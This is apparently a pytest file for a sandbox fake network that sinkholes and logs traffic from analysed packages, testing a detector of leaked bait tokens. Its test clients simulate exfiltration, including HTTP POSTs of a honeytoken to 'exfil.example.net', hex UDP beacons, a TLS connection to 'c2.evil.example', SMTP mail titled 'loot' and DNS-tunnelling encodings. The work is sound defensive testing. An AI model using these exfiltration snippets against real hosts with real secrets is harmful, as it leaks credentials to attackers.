"""The fake network seen from inside its namespace: DNS, TCP/TLS/HTTP, UDP, IPv6, tokens, cleanup.

Clients run as real processes inside the namespace (preexec_fn=net.enter_netns, the way run.py
can start the sandbox). Every destination is an AnyIP address answered by the namespace's own
`lo`; nothing reaches a real host.
"""

from __future__ import annotations

import base64
import ipaddress
import json
import os
import shutil
import ssl
import subprocess
import sys
import threading
import time
import urllib.parse
import uuid
from collections.abc import Callable
from typing import Any

import pytest

from osptrack.sandbox.exfil import find_tokens
from osptrack.sandbox.fakenet import FakeNetwork, parse_http_request, parse_tls_sni

needs_root_net = pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("nft") or not shutil.which("ip"),
    reason="needs root, nftables and iproute2 (installed by .ci/run)",
)

TOKEN = "AKIAZQ7HONEYTOKEN4821"  # a bait value; harmless, never valid anywhere
SINKHOLE_V4 = ipaddress.ip_network("198.18.0.0/15")
IDLE_TIMEOUT = 3.0


def run_inside(net: FakeNetwork, code: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", code],
        preexec_fn=net.enter_netns,
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )


def wait_for(predicate: Callable[[], bool], timeout: float = 8.0) -> bool:
    deadline = time.time() + timeout
    while time.time() < deadline:
        if predicate():
            return True
        time.sleep(0.05)
    return predicate()


# The whole client side in one process, so the namespace is built once for most tests.
CLIENT = r"""
import base64, json, socket, ssl, sys, time, urllib.parse, urllib.request
from dnslib import DNSRecord

token = sys.argv[1]
seen = {}

def udp_query(name, qtype, server, connect):
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    q = DNSRecord.question(name, qtype).pack()
    if connect:
        s.connect((server, 53)); s.send(q); data = s.recv(4096)
    else:
        s.sendto(q, (server, 53)); data = s.recvfrom(4096)[0]
    return [str(rr.rdata) for rr in DNSRecord.parse(data).rr]

seen["resolver_a"] = udp_query("evil.example.com", "A", sys.argv[2], connect=False)
seen["direct_a"] = udp_query("evil.example.com", "A", "8.8.8.8", connect=True)
seen["aaaa"] = udp_query("evil.example.com", "AAAA", "8.8.8.8", connect=True)
seen["txt"] = udp_query("txt.example.org", "TXT", "1.1.1.1", connect=True)
seen["v6_server"] = udp_query("v6dns.example.net", "A", "2001:4860:4860::8888", connect=True)
tcp_reply = DNSRecord.question("tcp-dns.example.net").send("9.9.9.9", 53, tcp=True, timeout=5)
seen["tcp_dns"] = [str(rr.rdata) for rr in DNSRecord.parse(tcp_reply).rr]
# getaddrinfo with AI_ADDRCONFIG only asks DNS when the box looks connected (addresses on lo).
seen["gai"] = sorted({ai[4][0] for ai in socket.getaddrinfo("gai.example.com", 443, socket.AF_INET,
                      socket.SOCK_STREAM, 0, socket.AI_ADDRCONFIG)})

ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
for host in ("1.2.3.4", seen["direct_a"][0]):
    started = time.time()
    raw = socket.create_connection((host, 443), timeout=5)
    try:
        ctx.wrap_socket(raw, server_hostname="c2.evil.example" if host == "1.2.3.4" else "evil.example.com")
        seen["tls_" + host] = "handshake?!"
    except (ssl.SSLError, OSError) as exc:
        seen["tls_" + host] = type(exc).__name__
    seen["tls_seconds_" + host] = time.time() - started

def post(path, body):
    req = urllib.request.Request("http://203.0.113.5:8080" + path, data=body, method="POST",
                                 headers={"Host": "exfil.example.net"})
    started = time.time()
    with urllib.request.urlopen(req, timeout=5) as resp:
        return [resp.status, resp.read().decode(), time.time() - started]

seen["post_raw"] = post("/collect", b"key=" + token.encode())
seen["post_b64"] = post("/b64", json.dumps({"d": base64.b64encode(b"xx" + token.encode()).decode()}).encode())

u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"udp-beacon " + token.encode().hex().encode(), ("10.9.9.9", 9999))

c6 = socket.create_connection(("2001:db8::1", 443), timeout=5)
c6.sendall(b"hello over v6")
c6.close()

# A package's own loopback server keeps working: loopback is not diverted.
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
cl = socket.create_connection(srv.getsockname(), timeout=5); peer, _ = srv.accept()
cl.sendall(b"ping"); seen["loopback"] = peer.recv(4).decode()

print(json.dumps(seen))
"""


@pytest.fixture(scope="module")
def session() -> Any:
    if os.geteuid() != 0 or not shutil.which("nft"):
        pytest.fail("needs root and nftables (scripts/setup.sh installs nftables)")
    with FakeNetwork(run_id=f"t-{uuid.uuid4().hex[:10]}", idle_timeout=IDLE_TIMEOUT) as net:
        net.set_phase("install")
        proc = run_inside(
            net, CLIENT.replace("sys.argv[1]", repr(TOKEN)).replace("sys.argv[2]", repr(net.resolver_address))
        )
        assert proc.returncode == 0, proc.stderr
        seen = json.loads(proc.stdout)
        # No polling: records() settles, so every flow of the exited client is already there.
        assert len([r for r in net.records() if r["kind"] == "tcp"]) == 5, (
            net.records()
        )  # 2 TLS, 2 POST, 1 IPv6
        ns_dev = subprocess.run(
            ["ip", "netns", "exec", net.netns_name, "cat", "/proc/net/dev"],
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        yield {
            "net": net,
            "seen": seen,
            "records": net.records(),
            "ns_dev": ns_dev,
            "hostnames": net.hostnames_for(seen["direct_a"][0]),
        }


def _of(records: list[dict[str, Any]], **match: Any) -> list[dict[str, Any]]:
    return [r for r in records if all(r.get(k) == v for k, v in match.items())]


@needs_root_net
def test_dns_via_resolver_and_direct_to_8_8_8_8_is_logged_and_sinkholed(session: Any) -> None:
    seen, records = session["seen"], session["records"]
    answer = seen["direct_a"]
    assert len(answer) == 1 and ipaddress.ip_address(answer[0]) in SINKHOLE_V4
    # Same name, same sinkhole, whoever was asked.
    assert seen["resolver_a"] == answer
    direct = _of(records, kind="dns", qname="evil.example.com", qtype="A", server="8.8.8.8")
    via_resolver = _of(
        records, kind="dns", qname="evil.example.com", qtype="A", server=session["net"].resolver_address
    )
    assert direct and via_resolver
    assert (
        direct[0]["answer"] == answer and direct[0]["server_port"] == 53 and direct[0]["phase"] == "install"
    )
    assert session["hostnames"] == ["evil.example.com"]


@needs_root_net
def test_dns_aaaa_other_types_and_tcp(session: Any) -> None:
    seen, records = session["seen"], session["records"]
    v6 = ipaddress.ip_address(seen["aaaa"][0])
    assert v6.version == 6 and v6.is_private
    assert session["net"].hostnames_for(str(v6)) == ["evil.example.com"]
    assert seen["txt"] == []  # NODATA
    # A resolver reached over IPv6 answers from the address the client aimed at, too.
    assert ipaddress.ip_address(seen["v6_server"][0]) in SINKHOLE_V4
    assert _of(records, kind="dns", qname="v6dns.example.net", server="2001:4860:4860::8888", server_port=53)
    assert _of(records, kind="dns", qname="txt.example.org", qtype="TXT", server="1.1.1.1", answer=[])
    assert ipaddress.ip_address(seen["tcp_dns"][0]) in SINKHOLE_V4
    assert _of(records, kind="dns", qname="tcp-dns.example.net", server="9.9.9.9")
    # DNS over TCP is logged as DNS, not as an opaque TCP flow.
    assert not _of(records, kind="tcp", dst="9.9.9.9")
    assert seen["gai"] and ipaddress.ip_address(seen["gai"][0]) in SINKHOLE_V4


@needs_root_net
def test_tls_is_intercepted_with_sni_and_hostname_mapping(session: Any) -> None:
    seen, records = session["seen"], session["records"]
    # The client does not verify here (CERT_NONE): the handshake completes against a minted leaf.
    assert seen["tls_1.2.3.4"] == "handshake?!"
    assert seen["tls_seconds_1.2.3.4"] < IDLE_TIMEOUT / 2
    flow = _of(records, kind="tcp", dst="1.2.3.4", dst_port=443)
    assert len(flow) == 1
    assert flow[0]["tls_sni"] == "c2.evil.example" and flow[0]["hostname"] == "c2.evil.example"
    assert flow[0]["tls"]["intercepted"] is True and flow[0]["tls"]["sni"] == "c2.evil.example"
    assert flow[0]["tls"]["version"].startswith("TLSv1.")
    # Nothing was sent inside the tunnel: the plaintext capture is empty.
    assert flow[0]["bytes"] == 0 and flow[0]["http"] is None and flow[0]["requests"] is None
    sinkholed = _of(records, kind="tcp", dst=seen["direct_a"][0], dst_port=443)
    assert sinkholed and sinkholed[0]["hostname"] == "evil.example.com"
    assert sinkholed[0]["tls"]["sni"] == "evil.example.com"


@needs_root_net
def test_http_post_logged_with_request_line_and_tokens_found(session: Any) -> None:
    seen, records = session["seen"], session["records"]
    # Answered as soon as the body is in, not after the idle timeout.
    # A POST that is no API call gets what a beacon endpoint answers: 204, no body.
    assert seen["post_raw"][:2] == [204, ""] and seen["post_b64"][:2] == [204, ""]
    assert seen["post_raw"][2] < IDLE_TIMEOUT / 2
    posts = _of(records, kind="tcp", dst="203.0.113.5", dst_port=8080)
    assert {p["http"]["path"] for p in posts} == {"/collect", "/b64"}
    for p in posts:
        assert p["http"]["method"] == "POST" and p["http"]["host"] == "exfil.example.net"
        assert p["hostname"] == "exfil.example.net"
        (req,) = p["requests"]
        assert req["method"] == "POST" and ["Host", "exfil.example.net"] in req["headers"]
        assert req["body_bytes"] == len(base64.b64decode(req["body"])) > 0 and not req["truncated"]
        assert p["served"] == [{"status": 204, "kind": "post", "content_type": None, "bytes": 0}]
    (collect,) = [p for p in posts if p["http"]["path"] == "/collect"]
    assert base64.b64decode(collect["requests"][0]["body"]) == b"key=" + TOKEN.encode()
    findings = find_tokens(records, {"aws_access_key_id": TOKEN})
    by_flow = {(f["flow"]["dst"], f["encoding"]) for f in findings}
    assert ("203.0.113.5", "raw") in by_flow
    assert ("203.0.113.5", "base64") in by_flow
    assert ("10.9.9.9", "hex") in by_flow  # the UDP beacon carried it hex-encoded
    assert all(f["phase"] == "install" for f in findings)


@needs_root_net
def test_udp_and_ipv6_flows_logged(session: Any) -> None:
    records = session["records"]
    udp = _of(records, kind="udp", dst="10.9.9.9", dst_port=9999)
    assert len(udp) == 1 and base64.b64decode(udp[0]["first_bytes"]).startswith(b"udp-beacon ")
    assert udp[0]["bytes"] == len(b"udp-beacon ") + 2 * len(TOKEN)
    v6 = _of(records, kind="tcp", dst="2001:db8::1", dst_port=443)
    assert len(v6) == 1 and base64.b64decode(v6[0]["first_bytes"]) == b"hello over v6"
    assert session["seen"]["loopback"] == "ping"
    assert not _of(records, dst="127.0.0.1")


@needs_root_net
def test_records_follow_network_jsonl_format(session: Any) -> None:
    keys = {
        "dns": {"t", "phase", "kind", "qname", "qtype", "server", "server_port", "answer"},
        "tcp": {
            "t",
            "phase",
            "kind",
            "dst",
            "dst_port",
            "bytes",
            "first_bytes",
            "http",
            "tls_sni",
            "hostname",
            "tls",
            "requests",
            "served",
            "truncated",
        },
        "udp": {"t", "phase", "kind", "dst", "dst_port", "bytes", "first_bytes"},
    }
    records = session["records"]
    assert {r["kind"] for r in records} == set(keys)
    for r in records:
        assert set(r) == keys[r["kind"]], r
        json.dumps(r)
    times = [r["t"] for r in records]
    assert times == sorted(times)


@needs_root_net
def test_no_route_out_namespace_has_only_loopback(session: Any) -> None:
    """The proof that nothing left: the namespace has no interface but lo, so no packet had a way out,
    and lo carried the test traffic (its counters hold at least the bytes the clients sent)."""
    lines = session["ns_dev"].splitlines()[2:]
    interfaces = {line.split(":")[0].strip() for line in lines}
    assert interfaces == {"lo"}
    lo_rx_bytes = int(lines[0].split(":")[1].split()[0])
    sent = sum(r["bytes"] for r in session["records"] if r["kind"] != "dns")
    assert lo_rx_bytes > sent > 0
    for dst in ("8.8.8.8", "2001:4860:4860::8888"):
        out = subprocess.run(
            ["ip", "-n", session["net"].netns_name, "route", "get", dst],
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        assert out.startswith("local "), out


@needs_root_net
def test_cleanup_after_exception_leaves_nothing() -> None:
    net = FakeNetwork(run_id=f"c-{uuid.uuid4().hex[:10]}")
    before_threads = set(threading.enumerate())
    with pytest.raises(RuntimeError, match="boom"), net:
        assert net.netns_path.exists()
        # Hold a connection open so a handler thread is alive when the exception hits.
        holder = subprocess.Popen(
            [
                sys.executable,
                "-c",
                "import socket,time; s=socket.create_connection(('5.6.7.8', 25)); time.sleep(30)",
            ],
            preexec_fn=net.enter_netns,
        )
        try:
            assert wait_for(lambda: any(t.name == "fakenet-tcp" for t in net.threads_alive()))
            raise RuntimeError("boom")
        finally:
            holder.kill()
            holder.wait()
    assert not net.netns_path.exists()
    assert net.threads_alive() == []
    assert not [t for t in set(threading.enumerate()) - before_threads if t.is_alive()]
    names = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True, check=True).stdout
    assert net.netns_name not in names


@needs_root_net
def test_an_idle_dispatcher_sleeps_until_traffic_or_close() -> None:
    # Its select() used to time out every 10 ms (IDLE_ROUND_S) to notice close(): 100 wake-ups a
    # second for nothing, in every run. It now blocks until a listener or close()'s pipe is ready.
    with FakeNetwork(run_id=f"i-{uuid.uuid4().hex[:10]}") as net:
        dispatcher = net.threads_alive()[0]
        rounds = net._idle_rounds
        time.sleep(0.5)
        assert net._idle_rounds - rounds <= 1, net._idle_rounds - rounds  # ~50 before
        net.set_phase("install")
        code = "import socket; print(socket.getaddrinfo('late.example.org', 80)[0][4][0])"
        proc = run_inside(net, code)
        assert proc.returncode == 0, proc.stderr
        assert _of(net.records(), kind="dns", qname="late.example.org")  # still served after sleeping
        t0 = time.monotonic()
    assert time.monotonic() - t0 < 5.0 and not dispatcher.is_alive()  # close() woke it at once


@needs_root_net
def test_parallel_networks_are_isolated() -> None:
    ids = [f"p{i}-{uuid.uuid4().hex[:8]}" for i in range(2)]
    with FakeNetwork(run_id=ids[0]) as a, FakeNetwork(run_id=ids[1]) as b:
        assert a.netns_path != b.netns_path
        results: dict[str, subprocess.CompletedProcess[str]] = {}

        def client(net: FakeNetwork, port: int) -> None:
            code = f"import socket; s=socket.create_connection(('192.0.2.7', {port}), timeout=5); s.sendall(b'x'); s.close()"
            results[net.netns_name] = run_inside(net, code)

        threads = [
            threading.Thread(target=client, args=(a, 1111)),
            threading.Thread(target=client, args=(b, 2222)),
        ]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert all(r.returncode == 0 for r in results.values()), results
        assert [r["dst_port"] for r in a.records()] == [1111]
        assert [r["dst_port"] for r in b.records()] == [2222]


@needs_root_net
def test_duplicate_run_id_is_refused_and_first_survives() -> None:
    run_id = f"d-{uuid.uuid4().hex[:10]}"
    with FakeNetwork(run_id=run_id) as first:
        second = FakeNetwork(run_id=run_id)
        with pytest.raises(RuntimeError, match="already exists"):
            second.start()
        assert first.netns_path.exists()
    assert not first.netns_path.exists()


@needs_root_net
def test_http_server_waits_for_body_and_answers_100_continue() -> None:
    with FakeNetwork(run_id=f"h-{uuid.uuid4().hex[:10]}", tokens={"aws": TOKEN}) as net:
        net.set_phase("install")
        body = b"A" * 6000 + TOKEN.encode()
        code = (
            "import socket\n"
            "s = socket.create_connection(('203.0.113.9', 80), timeout=5)\n"
            f"s.sendall(b'PUT /up HTTP/1.1\\r\\nHost: h.example\\r\\nExpect: 100-continue\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n')\n"
            "print(s.recv(100).split(b'\\r\\n')[0].decode())\n"
            f"s.sendall(b'A' * 6000 + {TOKEN.encode()!r})\n"
            "print(s.recv(200).split(b'\\r\\n')[0].decode())\n"
        )
        proc = run_inside(net, code)
        assert proc.stdout.split("\n")[:2] == ["HTTP/1.1 100 Continue", "HTTP/1.1 204 No Content"], proc
        (flow,) = net.records()
        assert flow["bytes"] > 6000 and flow["http"]["method"] == "PUT"
        # first_bytes keeps at most 4096 bytes, so the token past it is not in the record...
        assert len(base64.b64decode(flow["first_bytes"])) == 4096
        assert find_tokens(net.records(), {"aws": TOKEN}) == []
        # ...but the capture-time scan of the first 64 KiB finds it.
        (found,) = net.exfiltration()
        assert found["kind"] == "aws" and found["encoding"] == "raw" and found["phase"] == "install"
        assert found["flow"] == {"kind": "tcp", "dst": "203.0.113.9", "dst_port": 80}


# --------------------------------------------------------------------------- parsers (no root needed)


def _client_hello(server_hostname: str | None) -> bytes:
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname=server_hostname)
    with pytest.raises(ssl.SSLWantReadError):
        obj.do_handshake()
    return outgoing.read()


def test_parse_tls_sni_from_real_client_hello() -> None:
    hello = _client_hello("sni.example.org")
    assert parse_tls_sni(hello) == "sni.example.org"
    assert parse_tls_sni(_client_hello(None)) is None
    # Split into two TLS records: the handshake message is reassembled.
    body = hello[5:]
    split = (
        hello[:3]
        + (100).to_bytes(2, "big")
        + body[:100]
        + hello[:3]
        + (len(body) - 100).to_bytes(2, "big")
        + body[100:]
    )
    assert parse_tls_sni(split) == "sni.example.org"
    assert parse_tls_sni(hello[:60]) is None
    assert parse_tls_sni(b"GET / HTTP/1.1\r\n") is None


def test_parse_http_request() -> None:
    assert parse_http_request(b"GET /a?b=c HTTP/1.1\r\nUser-Agent: x\r\nhOsT: Example.COM:8080\r\n\r\n") == {
        "method": "GET",
        "path": "/a?b=c",
        "host": "Example.COM:8080",
    }
    assert parse_http_request(b"POST / HTTP/1.0\r\n\r\n") == {"method": "POST", "path": "/", "host": None}
    assert parse_http_request(b"\x16\x03\x01\x02\x00") is None
    assert parse_http_request(b"SSH-2.0-OpenSSH_9.2\r\n") is None


def _flow(data: bytes, kind: str = "tcp") -> dict[str, Any]:
    return {"t": 1.0, "phase": "install", "kind": kind, "dst": "192.0.2.1", "dst_port": 443,
            "bytes": len(data), "first_bytes": base64.b64encode(data).decode()}  # fmt: skip


@pytest.mark.parametrize("prefix", [b"", b"a", b"ab", b"abc", b'{"env": "'])
def test_find_tokens_base64_at_any_alignment(prefix: bytes) -> None:
    for encoder in (base64.b64encode, base64.urlsafe_b64encode):
        blob = encoder(prefix + TOKEN.encode() + b"\n" + b"\xff\xfe" * 5)
        (hit,) = find_tokens([_flow(b"data=" + blob)], {"aws": TOKEN})
        assert hit["encoding"] == "base64" and hit["kind"] == "aws"
        assert hit["flow"] == {"kind": "tcp", "dst": "192.0.2.1", "dst_port": 443}


def test_find_tokens_url_hex_dns_and_no_false_positive() -> None:
    token = "s3cr3t/+=Tok&en"
    url = urllib.parse.quote(token, safe="").encode()
    assert b"%2F" in url
    assert (
        find_tokens([_flow(b"GET /?k=" + url + b" HTTP/1.1\r\n\r\n")], {"k": token})[0]["encoding"] == "url"
    )
    hexed = token.encode().hex().upper().encode()
    assert find_tokens([_flow(hexed, kind="udp")], {"k": token})[0]["encoding"] == "hex"
    dns = {"t": 1.0, "phase": "import", "kind": "dns", "qname": TOKEN.lower() + ".x.example", "qtype": "A",
           "server": "8.8.8.8", "server_port": 53, "answer": []}  # fmt: skip
    (hit,) = find_tokens([dns], {"aws": TOKEN})
    assert hit["phase"] == "import" and hit["flow"]["kind"] == "dns"
    # Hex split across DNS labels is still found (labels are joined).
    hx = TOKEN.encode().hex()
    split = dict(dns, qname=f"{hx[:30]}.{hx[30:]}.t.example")
    assert find_tokens([split], {"aws": TOKEN})[0]["encoding"] == "hex"
    # base32 in DNS labels (lower-cased, split, unpadded), as DNS tunnels send it.
    for prefix in (b"", b"a", b"ab", b"abc", b"abcd"):
        b32 = base64.b32encode(prefix + TOKEN.encode()).decode().rstrip("=").lower()
        tunnel = dict(dns, qname=f"{b32[:40]}.{b32[40:]}.t.example")
        assert find_tokens([tunnel], {"aws": TOKEN})[0]["encoding"] == "base32", prefix
    # An unrelated payload, a near miss and a too-short token find nothing.
    assert find_tokens([_flow(b"hello world " + TOKEN[:-1].encode())], {"aws": TOKEN}) == []
    assert find_tokens([_flow(b"abc")], {"short": "abc"}) == []


@needs_root_net
def test_reset_connections_are_still_logged_and_floods_are_capped() -> None:
    with FakeNetwork(run_id=f"z-{uuid.uuid4().hex[:10]}", max_records=5) as net:
        reset_code = (
            "import socket, struct\n"
            "s = socket.create_connection(('198.51.100.1', 4444), timeout=5)\n"
            "s.sendall(b'GET /reset HTTP/1.1\\r\\nHost: rst.example\\r\\nContent-Length: 100\\r\\n\\r\\npartial')\n"
            "s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))\n"
            "s.close()\n"  # RST while the server still waits for the body
        )
        assert run_inside(net, reset_code).returncode == 0
        (reset,) = _of(net.records(), kind="tcp")
        assert reset["http"] == {"method": "GET", "path": "/reset", "host": "rst.example"}
        assert reset["bytes"] == len(base64.b64decode(reset["first_bytes"])) > 0
        flood = (
            "import socket\n"
            "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "for i in range(20): u.sendto(b'flood', ('198.51.100.2', 7000 + i))\n"
        )
        assert run_inside(net, flood).returncode == 0
        assert len(net.records()) == 5 and net.dropped == 16


@needs_root_net
def test_records_settle_until_open_flows_end() -> None:
    with FakeNetwork(run_id=f"w-{uuid.uuid4().hex[:10]}", idle_timeout=3.0) as net:
        code = "import socket,time; s=socket.create_connection(('192.0.2.55', 6667)); s.sendall(b'NICK x'); time.sleep(0.7)"
        proc = subprocess.Popen([sys.executable, "-c", code], preexec_fn=net.enter_netns)
        try:
            assert wait_for(
                lambda: (
                    bool(net.threads_alive()) and any(t.name == "fakenet-tcp" for t in net.threads_alive())
                )
            )
            assert net.records(settle=False) == []  # the flow is still open
            flows = net.records()  # waits for the client to finish
            assert [(r["dst"], r["dst_port"], r["bytes"]) for r in flows] == [("192.0.2.55", 6667, 6)]
        finally:
            proc.wait(10)


@needs_root_net
def test_mail_exfiltration_is_captured_by_the_fake_smtp_server() -> None:
    with FakeNetwork(run_id=f"m-{uuid.uuid4().hex[:10]}") as net:
        net.set_phase("import")
        code = (
            "import smtplib\n"
            "with smtplib.SMTP('mail.evil.example.net', 587, timeout=5) as m:\n"
            "    m.ehlo()\n"
            f"    m.login('collector', {TOKEN!r})\n"
            f"    m.sendmail('a@x.example', ['b@y.example'], 'Subject: loot\\r\\n\\r\\nkey: {TOKEN}')\n"
            "print('sent')\n"
        )
        proc = run_inside(net, code)
        assert proc.returncode == 0 and proc.stdout.strip() == "sent", proc.stderr
        (flow,) = _of(net.records(), kind="tcp")
        assert flow["dst_port"] == 587 and flow["hostname"] == "mail.evil.example.net"
        conversation = base64.b64decode(flow["first_bytes"])
        lines = conversation.split(b"\r\n")
        assert b"mail FROM:<a@x.example>" in lines and b"Subject: loot" in lines and lines[-2] == b"QUIT"
        (found,) = find_tokens(net.records(), {"aws": TOKEN})
        assert found["encoding"] == "raw" and found["phase"] == "import"
        # The password also travelled base64-encoded in AUTH PLAIN, before the DATA.
        (auth,) = [line for line in lines if line.startswith(b"AUTH PLAIN ")]
        assert base64.b64decode(auth.split()[2]).split(b"\0") == [b"", b"collector", TOKEN.encode()]


def test_smtp_reply_walks_auth_login_and_data() -> None:
    from osptrack.sandbox.fakenet import smtp_reply

    state = "cmd"
    codes = []
    for line in [b"EHLO me", b"AUTH LOGIN", b"dXNlcg==", b"cGFzcw==", b"MAIL FROM:<a@b>", b"DATA", b"line 1",
                 b".", b"QUIT"]:  # fmt: skip
        reply, state = smtp_reply(line + b"\r\n", state)
        codes.append(reply[:3])
    assert codes == [b"250", b"334", b"334", b"235", b"250", b"354", b"", b"250", b"221"]
    assert state == "quit"


def test_exfiltration_without_dns_queries_makes_no_scanner() -> None:
    """The end-of-run tunnel search needs the scanner only for DNS queries: a run without any
    (most) must not import and compile it after its last phase (never started: no root needed)."""
    net = FakeNetwork(run_id=f"x-{uuid.uuid4().hex[:10]}", tokens={"aws": TOKEN}, intercept_tls=False)
    assert net.exfiltration() == []
    assert net._scanner_made is None
    # a query is what it is for: then the scanner is made (with the record, as during a phase)
    net._add({"t": 1.0, "phase": "install", "kind": "dns", "qname": "a.example", "qtype": "A"})
    assert net.exfiltration() == []
    assert net._scanner_made is not None


def test_routes_added_after_construction_come_before_the_built_in_ones() -> None:
    """run.py adds the registry service's routes once its target is resolved, while the network
    is already starting (start() appends the SMTP route meanwhile): they must win, as routes=
    given at construction do."""
    from osptrack.sandbox.fakenet import Route
    from osptrack.sandbox.fakenet.responders.smtp import SMTP_PORTS

    net = FakeNetwork(run_id=f"r-{uuid.uuid4().hex[:10]}", intercept_tls=False)
    net.routes.extend(net._builtin_routes())  # what start() does, before or after add_routes
    smtp = net.responder_for("198.51.100.7", min(SMTP_PORTS))
    mine = Route(object(), address="198.51.100.7", ports=frozenset(SMTP_PORTS))  # type: ignore[arg-type]
    net.add_routes([mine])
    assert net.routes[0] is mine
    assert net.responder_for("198.51.100.7", min(SMTP_PORTS)) is mine.responder
    assert net.responder_for("198.51.100.8", min(SMTP_PORTS)) is smtp
